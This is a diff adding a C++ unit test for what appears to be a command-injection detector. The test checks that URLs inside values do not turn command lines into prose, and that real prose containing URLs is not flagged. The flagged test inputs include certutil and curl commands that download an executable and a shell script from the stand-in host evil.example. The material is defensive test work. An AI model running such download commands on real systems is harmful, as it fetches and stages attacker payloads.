@@ -251,6 +251,26 @@ TEST(OpsDocument, ShortYamlPrefixDoesNotExcuseAnInjection) {
   EXPECT_TRUE(HasCategory(w, Category::kCmdi) && Flagged(w)) << w.explanation;
 }
 
+// The words of a URL or a path do not make a command line a sentence: a download with a long
+// URL stays a command, while prose with a URL and a separator stays prose.
+TEST(ProseWords, UrlAndPathPartsAreNoWords) {
+  for (const char* v : {"& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
+                        "x;curl http://evil.example/a/b/c/d.sh -o /tmp/a.sh"}) {
+    Verdict r = InspectQueryValue(v);
+    EXPECT_TRUE(HasCategory(r, Category::kCmdi) && Flagged(r)) << v << " -> " << r.explanation;
+  }
+  for (const char* v :
+       {"See the guide at https://docs.example.com/setup/install/linux/steps and read it; then "
+        "restart the service and check the logs",
+        "I tried the mirror at http://mirror.example.org/debian/pool/main/ but | it failed with "
+        "an error again and again",
+        "Download from https://example.com/files/report.pdf & share the link with the whole team "
+        "by friday please"}) {
+    Verdict r = InspectQueryValue(v);
+    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
+  }
+}
+
 // Command words as long as a value without spaces. Past 64 bytes (quotes read away) a name
 // is a command only as a strong command's name with a version; path prefixes and quotes of
 // any length are read away first.
